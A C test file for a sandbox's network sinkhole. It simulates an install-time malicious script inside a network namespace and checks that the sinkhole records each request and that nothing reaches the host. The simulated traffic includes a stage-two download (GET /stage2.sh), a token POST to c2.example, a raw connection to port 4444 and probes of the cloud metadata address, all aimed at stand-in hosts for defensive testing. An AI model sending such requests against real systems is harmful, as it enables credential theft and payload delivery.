/*
 * sinkhole_test — the install phase's network as a sandbox meets it: a real
 * network namespace in the sinkhole shape (worker/sandbox/netns.c,
 * netpolicy.c, sinkhole.c), joined by a thread that plays the sandbox with
 * plain sockets: DNS questions answered with sinkhole addresses (and the
 * metadata names with the metadata address), an HTTP GET answered 200 with
 * the harmless body, a POST whose JSON body is recorded, a TLS ClientHello
 * whose server name is recorded and refused, raw TCP and UDP recorded, the
 * metadata addresses and the host's own unreachable, loopback the
 * namespace's own. A listener on the host's loopback must receive nothing.
 * Needs root (CAP_NET_ADMIN); 77 otherwise.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "harness.h"
#include "netns.h"
#include "netproto.h"
#include "sinkhole.h"

/* What the sandbox thread saw. */
struct sandbox_view {
	const char *ns_path;
	uint16_t host_port; /* a listener on the host's loopback */
	struct sockaddr_storage host_addr; /* one of the host's own addresses, family 0: none */
	char a[64], aaaa[64], meta[64];
	int txt_answers;
	char http_reply[512], tls_reply[16], continue_reply[64];
	int meta4_errno, meta6_errno, loop_errno, hostlo_errno, hostaddr_errno;
	int ok;
};

static size_t sb_query(unsigned char *m, uint16_t id, const char *name, uint16_t type)
{
	const unsigned char head[12] = {(unsigned char)(id >> 8), (unsigned char)id, 1, 0, 0, 1};
	memcpy(m, head, 12);
	memset(m + 6, 0, 6);
	size_t p = 12;
	for (const char *s = name; *s;) {
		const char *dot = strchr(s, '.');
		size_t l = dot ? (size_t)(dot - s) : strlen(s);
		m[p++] = (unsigned char)l;
		memcpy(m + p, s, l);
		p += l;
		s += l + (dot ? 1 : 0);
	}
	m[p++] = 0;
	m[p++] = (unsigned char)(type >> 8);
	m[p++] = (unsigned char)type;
	m[p++] = 0;
	m[p++] = 1;
	return p;
}

/* Asks 127.0.0.1:53; the address of the answer (or "" and *nans = 0). */
static void sb_resolve(const char *name, uint16_t type, char *out, size_t outlen, int *nans)
{
	unsigned char m[512], r[512];
	out[0] = '\0';
	*nans = -1;
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct timeval tv = {.tv_sec = 2};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	size_t n = sb_query(m, 0x4242, name, type);
	if (sendto(s, m, n, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)n) {
		ssize_t got = recv(s, r, sizeof(r), 0);
		if (got >= (ssize_t)n && r[0] == 0x42 && (r[2] & 0x80)) {
			*nans = (r[6] << 8) | r[7];
			if (*nans == 1 && type == SF_DNS_TYPE_A && got >= (ssize_t)n + 16)
				inet_ntop(AF_INET, r + got - 4, out, (socklen_t)outlen);
			if (*nans == 1 && type == SF_DNS_TYPE_AAAA && got >= (ssize_t)n + 28)
				inet_ntop(AF_INET6, r + got - 16, out, (socklen_t)outlen);
		}
	}
	close(s);
}

/* Connects to ip:port; 0 or the errno. *fd the socket when connected. */
static int sb_connect(int family, const char *ip, uint16_t port, int *fd)
{
	struct sockaddr_storage a;
	memset(&a, 0, sizeof(a));
	socklen_t al;
	if (family == AF_INET) {
		struct sockaddr_in *in = (struct sockaddr_in *)&a;
		in->sin_family = AF_INET;
		in->sin_port = htons(port);
		inet_pton(AF_INET, ip, &in->sin_addr);
		al = sizeof(*in);
	} else {
		struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&a;
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons(port);
		inet_pton(AF_INET6, ip, &in6->sin6_addr);
		al = sizeof(*in6);
	}
	int s = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct timeval tv = {.tv_sec = 3};
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(s, (struct sockaddr *)&a, al) != 0) {
		int e = errno;
		close(s);
		return e;
	}
	if (fd)
		*fd = s;
	else
		close(s);
	return 0;
}

/* Sends msg on a new connection and reads the answer (until EOF). */
static void sb_exchange(const char *ip, uint16_t port, const void *msg, size_t len, char *reply,
			size_t rlen)
{
	int s = -1;
	reply[0] = '\0';
	if (sb_connect(AF_INET, ip, port, &s) != 0)
		return;
	if (write(s, msg, len) == (ssize_t)len) {
		size_t got = 0;
		ssize_t r;
		while (got < rlen - 1 && (r = read(s, reply + got, rlen - 1 - got)) > 0)
			got += (size_t)r;
		reply[got] = '\0';
	}
	close(s);
}

static const unsigned char sb_hello[] = {
    0x16, 0x03, 0x01, 0x00, 0x41, 0x01, 0x00, 0x00, 0x3d, 0x03, 0x03,
    /* random */ 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22,
    23, 24, 25, 26, 27, 28, 29, 30, 31, 32,
    0x00, 0x00, 0x02, 0x13, 0x01, 0x01, 0x00,
    /* extensions */ 0x00, 0x12, 0x00, 0x00, 0x00, 0x0e, 0x00, 0x0c, 0x00, 0x00, 0x09,
    'T', 'l', 's', '.', 'e', 'x', 'a', 'm', 'p'};

static void *sandbox_thread(void *arg)
{
	struct sandbox_view *v = arg;
	int nsfd = open(v->ns_path, O_RDONLY | O_CLOEXEC);
	if (nsfd < 0 || setns(nsfd, CLONE_NEWNET) != 0)
		return NULL;
	close(nsfd);
	int n;
	sb_resolve("Stage2.Example", SF_DNS_TYPE_A, v->a, sizeof(v->a), &n);
	sb_resolve("stage2.example", SF_DNS_TYPE_AAAA, v->aaaa, sizeof(v->aaaa), &n);
	sb_resolve("c2.example", 16, v->meta, sizeof(v->meta), &v->txt_answers);
	sb_resolve("metadata.google.internal", SF_DNS_TYPE_A, v->meta, sizeof(v->meta), &n);
	static const char get[] = "GET /stage2.sh HTTP/1.1\r\nHost: stage2.example\r\n\r\n";
	sb_exchange(v->a, 80, get, sizeof(get) - 1, v->http_reply, sizeof(v->http_reply));
	static const char post[] = "POST /collect HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 19\r\n"
				   "\r\n{\"token\":\"secret1\"}";
	char ignored[512];
	sb_exchange("198.51.100.9", 8080, post, sizeof(post) - 1, ignored, sizeof(ignored));
	sb_exchange("203.0.113.9", 443, sb_hello, sizeof(sb_hello), v->tls_reply,
		    sizeof(v->tls_reply));
	/* curl's way with a large body: the head, then the body once told to */
	int e = -1;
	if (sb_connect(AF_INET, "198.51.100.10", 80, &e) == 0) {
		static const char head[] = "PUT /big HTTP/1.1\r\nHost: up.example\r\n"
					   "Expect: 100-continue\r\nContent-Length: 7\r\n\r\n";
		ssize_t got = -1;
		if (write(e, head, sizeof(head) - 1) == (ssize_t)(sizeof(head) - 1))
			got = read(e, v->continue_reply, sizeof(v->continue_reply) - 1);
		if (got > 0 && write(e, "payload", 7) == 7) {
			char rest[512];
			while (read(e, rest, sizeof(rest)) > 0)
				;
		}
		close(e);
	}
	int s = -1;
	if (sb_connect(AF_INET6, "2001:db8::4", 4444, &s) == 0) {
		if (write(s, "raw\x01" "bytes", 9) != 9)
			v->ok = -1;
		close(s);
	}
	int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in ut = {.sin_family = AF_INET, .sin_port = htons(5555)};
	inet_pton(AF_INET, "203.0.113.9", &ut.sin_addr);
	if (sendto(u, "udp-data", 8, 0, (struct sockaddr *)&ut, sizeof(ut)) != 8)
		v->ok = -1;
	close(u);
	v->meta4_errno = sb_connect(AF_INET, "169.254.169.254", 80, NULL);
	v->meta6_errno = sb_connect(AF_INET6, "fd00:ec2::254", 80, NULL);
	v->loop_errno = sb_connect(AF_INET, "127.0.0.1", 8080, NULL);
	v->hostlo_errno = sb_connect(AF_INET, "127.0.0.1", v->host_port, NULL);
	if (v->host_addr.ss_family) {
		char ip[INET6_ADDRSTRLEN];
		int fam = v->host_addr.ss_family;
		const void *a = fam == AF_INET ? (const void *)&((struct sockaddr_in *)&v->host_addr)->sin_addr
					       : (const void *)&((struct sockaddr_in6 *)&v->host_addr)->sin6_addr;
		inet_ntop(fam, a, ip, sizeof(ip));
		v->hostaddr_errno = sb_connect(fam, ip, v->host_port, NULL);
	}
	if (v->ok == 0)
		v->ok = 1;
	return NULL;
}

static const struct sf_net_record *find(const struct sf_net_record *r, size_t n,
					enum sf_net_kind kind, const char *what)
{
	for (size_t i = 0; i < n; i++) {
		if (r[i].kind != kind)
			continue;
		const char *s = kind == SF_NET_DNS ? r[i].dns_name : kind == SF_NET_HTTP ? r[i].http_target
				: kind == SF_NET_TLS ? r[i].sni : NULL;
		if (!what || (s && strcmp(s, what) == 0))
			return &r[i];
		if (!s && r[i].data && memmem(r[i].data, r[i].len, what, strlen(what)))
			return &r[i];
	}
	return NULL;
}

int main(void)
{
	if (geteuid() != 0)
		SKIP("needs root (network namespaces, nftables)");
	struct sf_netaddr blocked[SF_NETPOLICY_MAX_BLOCKED];
	size_t nb = 0;
	CHECK_EQ(sf_netpolicy_blocked(blocked, SF_NETPOLICY_MAX_BLOCKED, &nb), 0);
	CHECK(nb >= 3);
	static const uint8_t meta[16] = {169, 254, 169, 254};
	CHECK(sf_netpolicy_match(blocked, nb, AF_INET, meta));

	/* the host's loopback listener that must hear nothing */
	int hl = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	struct sockaddr_in ha = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t hal = sizeof(ha);
	CHECK(bind(hl, (struct sockaddr *)&ha, sizeof(ha)) == 0 && listen(hl, 8) == 0 &&
	      getsockname(hl, (struct sockaddr *)&ha, &hal) == 0);

	struct sf_netns *ns = NULL;
	char err[300] = "";
	struct sf_netns_opts o = {.sinkhole = true, .blocked = blocked, .nblocked = nb};
	int rc = sf_netns_create(&ns, &o, err, sizeof(err));
	if (rc)
		fprintf(stderr, "netns: %s\n", err);
	CHECK_EQ(rc, 0);
	if (rc)
		TEST_DONE();
	struct sandbox_view v = {.ns_path = sf_netns_path(ns), .host_port = ntohs(ha.sin_port)};
	/* one of the host's own addresses, if it has any besides loopback */
	for (size_t i = 3; i < nb && !v.host_addr.ss_family; i++) {
		if (blocked[i].family == AF_INET) {
			struct sockaddr_in *in = (struct sockaddr_in *)&v.host_addr;
			in->sin_family = AF_INET;
			memcpy(&in->sin_addr, blocked[i].addr, 4);
		}
	}
	pthread_t t;
	CHECK_EQ(pthread_create(&t, NULL, sandbox_thread, &v), 0);
	pthread_join(t, NULL);
	CHECK_EQ(v.ok, 1);

	/* what the sandbox got */
	CHECK(strcmp(v.a, "198.18.0.1") == 0);
	CHECK(strcmp(v.aaaa, "64:ff9b::c612:1") == 0);
	CHECK_EQ(v.txt_answers, 0);
	CHECK(strcmp(v.meta, "169.254.169.254") == 0);
	CHECK(strncmp(v.http_reply, "HTTP/1.1 200 OK\r\n", 17) == 0);
	size_t hrl = strlen(v.http_reply), bl = strlen(SF_SINKHOLE_BODY);
	CHECK(hrl > bl && strcmp(v.http_reply + hrl - bl, SF_SINKHOLE_BODY) == 0);
	CHECK_EQ((unsigned char)v.tls_reply[0], 0x15); /* a TLS alert */
	CHECK(strncmp(v.continue_reply, "HTTP/1.1 100 Continue\r\n\r\n", 25) == 0);
	CHECK_EQ(v.meta4_errno, EHOSTUNREACH);
	CHECK_EQ(v.meta6_errno, EHOSTUNREACH);
	CHECK_EQ(v.loop_errno, ECONNREFUSED);
	CHECK_EQ(v.hostlo_errno, ECONNREFUSED); /* the namespace's own loopback */
	if (v.host_addr.ss_family)
		CHECK_EQ(v.hostaddr_errno, EHOSTUNREACH);
	else
		fprintf(stderr, "note: the host has no address besides loopback to try\n");
	int leaked = accept(hl, NULL, NULL);
	CHECK(leaked < 0 && errno == EAGAIN);
	close(hl);

	/* what the sinkhole recorded */
	struct sf_sinkhole *sh = sf_netns_sinkhole(ns);
	CHECK(sh != NULL);
	char name[256];
	const uint8_t first[4] = {198, 18, 0, 1};
	CHECK(sf_sinkhole_name_of(sh, AF_INET, first, name, sizeof(name)) == 0 &&
	      strcmp(name, "stage2.example") == 0);
	sf_sinkhole_stop(sh);
	size_t n;
	const struct sf_net_record *r = sf_sinkhole_records(sh, &n);
	for (size_t i = 0; getenv("SF_TEST_VERBOSE") && i < n; i++) {
		char c[64], sv[64];
		inet_ntop(r[i].client.family, r[i].client.addr, c, sizeof(c));
		inet_ntop(r[i].server.family, r[i].server.addr, sv, sizeof(sv));
		fprintf(stderr, "record %zu: kind %d %s:%u -> %s:%u len %zu total %llu\n", i,
			r[i].kind, c, r[i].client.port, sv, r[i].server.port, r[i].len,
			(unsigned long long)r[i].total);
	}
	const struct sf_net_record *q = find(r, n, SF_NET_DNS, "stage2.example");
	CHECK(q && q->dns_type == SF_DNS_TYPE_A && strcmp(q->dns_answer, "198.18.0.1") == 0 &&
	      q->server.port == 53 && q->client.port != 0);
	q = find(r, n, SF_NET_DNS, "c2.example");
	CHECK(q && q->dns_type == 16 && q->dns_answer[0] == '\0');
	q = find(r, n, SF_NET_HTTP, "/stage2.sh");
	CHECK(q && strcmp(q->http_method, "GET") == 0 && strcmp(q->http_host, "stage2.example") == 0 &&
	      strcmp(q->http_version, "HTTP/1.1") == 0 && q->server.port == 80 &&
	      strcmp(q->server_name, "stage2.example") == 0);
	q = find(r, n, SF_NET_HTTP, "/collect");
	CHECK(q && strcmp(q->http_method, "POST") == 0 && q->data &&
	      memmem(q->data, q->len, "{\"token\":\"secret1\"}", 19) && q->server.port == 8080 &&
	      q->server_name[0] == '\0');
	q = find(r, n, SF_NET_HTTP, "/big");
	CHECK(q && strcmp(q->http_method, "PUT") == 0 && q->data &&
	      memmem(q->data, q->len, "\r\n\r\npayload", 11));
	q = find(r, n, SF_NET_TLS, "tls.examp");
	CHECK(q && q->server.port == 443 && q->total == sizeof(sb_hello));
	q = find(r, n, SF_NET_TCP, "raw\x01");
	CHECK(q && q->server.family == AF_INET6 && q->server.port == 4444 && q->total == 9);
	q = find(r, n, SF_NET_UDP, "udp-data");
	CHECK(q && q->server.port == 5555 && q->server.addr[0] == 203 && q->client.port != 0);
	struct sf_sinkhole_stats st;
	sf_sinkhole_stats(sh, &st);
	CHECK_EQ(st.connections, 5);
	CHECK_EQ(st.questions, 4);
	CHECK_EQ(st.datagrams, 1);
	sf_netns_free(ns);
	TEST_DONE();
}
